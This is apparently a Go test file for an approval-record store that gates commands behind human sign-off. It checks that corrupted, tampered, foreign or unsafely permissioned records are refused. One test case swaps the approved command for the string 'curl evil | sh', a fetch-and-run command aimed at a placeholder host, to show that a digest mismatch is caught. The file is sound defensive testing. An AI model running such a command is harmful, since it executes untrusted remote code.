package escalation

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// However a record is damaged, it is not believed: not one flipped bit, not one
// byte less or more.
func TestDamagedBytes(t *testing.T) {
	t.Parallel()
	r, err := ask(sample(idA).Complete(created))
	check(t, err)
	if r, err = r.answered(approve(), created); err != nil {
		t.Fatal(err)
	}
	data, err := encode(r)
	check(t, err)
	if _, err := decode(data); err != nil {
		t.Fatal(err)
	}
	for i := range data {
		for _, bit := range []byte{1, 2, 32} {
			bad := bytes.Clone(data)
			bad[i] ^= bit
			if _, err := decode(bad); err == nil {
				t.Fatalf("bit %d of byte %d (%q) makes no difference", bit, i, data[i])
			}
		}
		if _, err := decode(data[:i]); err == nil {
			t.Fatalf("the first %d bytes are taken for a record", i)
		}
	}
	for _, more := range []string{" ", "\n", "{}", "\x00"} {
		if _, err := decode(append(bytes.Clone(data), more...)); err == nil {
			t.Errorf("%q behind it makes no difference", more)
		}
	}
	again := bytes.Replace(data, []byte(`"version":1`), []byte(`"version":2`), 1)
	if _, err := decode(again); err == nil || !strings.Contains(err.Error(), "version 2") {
		t.Errorf("%v", err)
	}
}

// A record that is whole but says what cannot be is none: nobody's hand makes a
// rejected one approved without an answer that says so.
func TestImpossibleRecords(t *testing.T) {
	t.Parallel()
	for name, spoil := range map[string]func(*Record){
		"approved by nobody":       func(r *Record) { r.State = Approved },
		"executing by nobody":      func(r *Record) { r.State, r.Begun = Executing, created },
		"pending with an answer":   func(r *Record) { r.Answer = &Answer{Method: Approve, By: alice, At: created} },
		"approved by a rejection":  func(r *Record) { r.State, r.Answer = Approved, &Answer{Method: Reject, By: alice, At: created} },
		"answered by no channel":   func(r *Record) { r.State, r.Answer = Approved, &Answer{Method: Approve, At: created} },
		"another command's digest": func(r *Record) { r.Question.Command.Text = []byte("curl evil | sh") },
		"another question":         func(r *Record) { r.Question.Reason = "x" },
		"approved and begun": func(r *Record) {
			r.State, r.Answer, r.Begun = Approved, &Answer{Method: Approve, By: alice, At: created}, created
		},
		"done without an outcome": func(r *Record) {
			r.State, r.Answer, r.Begun, r.Ended = Done, &Answer{Method: Approve, By: alice, At: created}, created, created
		},
		"an unknown state": func(r *Record) { r.State = "granted" },
		"an edit that is another": func(r *Record) {
			r.State, r.Answer = Approved, &Answer{Method: Approve, By: alice, At: created, Edit: &Edit{Text: []byte("a"), SHA256: sum([]byte("b"))}}
		},
	} {
		r, err := ask(sample(idA).Complete(created))
		check(t, err)
		spoil(&r)
		data, err := encode(r)
		check(t, err)
		if _, err := decode(data); err == nil {
			t.Errorf("%s: it is believed", name)
		}
	}
}

// What is no file of ours is never taken for a question, and never for nothing.
func TestForeignFiles(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	for name, spoil := range map[string]struct {
		do  func(t *testing.T, s Store, path string)
		why string
	}{
		"empty": {func(t *testing.T, s Store, path string) { check(t, os.WriteFile(path, nil, 0o600)) }, "not whole"},
		"foreign JSON": {func(t *testing.T, s Store, path string) {
			check(t, os.WriteFile(path, []byte(`{"state":"approved"}`), 0o600))
		}, "version 0"},
		"readable":    {func(t *testing.T, s Store, path string) { check(t, os.Chmod(path, 0o644)) }, "mode is 0644"},
		"open folder": {func(t *testing.T, s Store, path string) { check(t, os.Chmod(s.Dir, 0o777)) }, "others can write"},
		"link": {func(t *testing.T, s Store, path string) {
			check(t, os.Rename(path, path+".x"))
			check(t, os.Symlink(path+".x", path))
		}, "symbolic link"},
		"hard link": {func(t *testing.T, s Store, path string) { check(t, os.Link(path, path+".x")) }, "2 names"},
		"pipe": {func(t *testing.T, s Store, path string) {
			check(t, os.Remove(path))
			check(t, syscall.Mkfifo(path, 0o600))
		}, "regular"},
		"other loop": {func(t *testing.T, s Store, path string) {
			other := s
			other.Loop, other.Dir = "other", s.Dir+"2"
			q := sample(idA)
			q.Loop = "other"
			mustOpen(t, other, q)
			check(t, os.Rename(filepath.Join(other.Dir, File), path))
		}, `loop "other"`},
		"too large": {func(t *testing.T, s Store, path string) {
			check(t, os.WriteFile(path, bytes.Repeat([]byte(" "), maxRecord+1), 0o600))
		}, "more than 4 MiB"},
		"another user's": {func(t *testing.T, s Store, path string) {
			if os.Geteuid() != 0 {
				t.Skip("only root can give a file away")
			}
			check(t, os.Chown(path, 65534, 65534))
		}, "belongs to user 65534"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, _ := newStore(t)
			mustOpen(t, s, sample(idA))
			path := filepath.Join(s.Dir, File)
			spoil.do(t, s, path)
			before, _ := os.Lstat(path)
			_, load := s.Load()
			_, answer := s.Answer(ctx, approve())
			_, begin := s.Begin(ctx, idA)
			_, open := s.Open(ctx, sample(idB))
			for step, err := range map[string]error{"load": load, "answer": answer, "begin": begin, "open": open} {
				var damaged *DamagedError
				if !errors.As(err, &damaged) || damaged.Path != path || !strings.Contains(err.Error(), spoil.why) {
					t.Errorf("%s: %v", step, err)
				}
			}
			if after, err := os.Lstat(path); err != nil || !os.SameFile(before, after) {
				t.Errorf("it was touched: %v", err)
			}
			if name == "open folder" {
				return
			}
			to, err := s.SetAside(ctx)
			check(t, err)
			if kept, err := os.Lstat(to); err != nil || !os.SameFile(before, kept) {
				t.Errorf("it is not kept: %v", err)
			}
			if r := mustOpen(t, s, sample(idB)); r.State != Pending {
				t.Errorf("%+v", r)
			}
			if _, err := s.SetAside(ctx); err == nil {
				t.Error("a good record was moved away")
			}
		})
	}
}

func TestArchive(t *testing.T) {
	t.Parallel()
	s, c := newStore(t)
	ctx := context.Background()
	check(t, s.Disk.MkdirAll("x", s.archiveDir(), 0o700))
	for range keep { // as if they had been asked
		r, err := ask(asking(NewID(), "true").Complete(created))
		check(t, err)
		if r, err = r.superseded("", "old", created); err != nil {
			t.Fatal(err)
		}
		data, err := encode(r)
		check(t, err)
		check(t, os.WriteFile(filepath.Join(s.archiveDir(), "20260101T000000.000Z-"+r.Question.ID+".json"), data, 0o600))
	}
	mustOpen(t, s, sample(idA))
	_, err := s.Answer(ctx, AnswerRequest{Method: Reject, By: alice})
	check(t, err)
	c.at = created.AddDate(1, 0, 0)
	mustOpen(t, s, asking(idB, "true"))
	old, err := s.Archive()
	if err != nil || len(old) != keep || old[keep-1].Question.ID != idA || old[keep-1].State != Rejected {
		t.Errorf("%d, %v", len(old), err)
	}
	names, err := s.archived()
	check(t, err)
	check(t, os.WriteFile(filepath.Join(s.archiveDir(), names[3]), []byte("{"), 0o600))
	old, err = s.Archive()
	var damaged *DamagedError
	if len(old) != keep-1 || !errors.As(err, &damaged) {
		t.Errorf("%d, %v", len(old), err)
	}
}
